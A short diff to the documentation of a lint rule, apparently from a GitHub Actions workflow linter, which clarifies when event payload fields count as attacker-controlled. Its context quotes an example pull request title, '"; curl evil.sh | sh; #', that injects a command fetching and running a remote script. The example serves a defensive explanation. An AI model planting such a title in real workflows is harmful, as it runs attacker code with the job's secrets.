@@ -19,6 +19,10 @@ declare_rule! {
     /// this repository passes attacker text (high confidence), or at low severity when no caller is
     /// in the repository.
     ///
+    /// A payload field counts only when one of the workflow's triggers carries it
+    /// (`github.event.issue.title` needs `issues` or `issue_comment`); reusable workflows run with
+    /// their caller's event, so every field counts there.
+    ///
     /// ## Why is this bad
     /// Templates are expanded *before* the shell runs, so a pull request titled
     /// `"; curl evil.sh | sh; #` becomes part of the script and runs with the job's token and secrets.
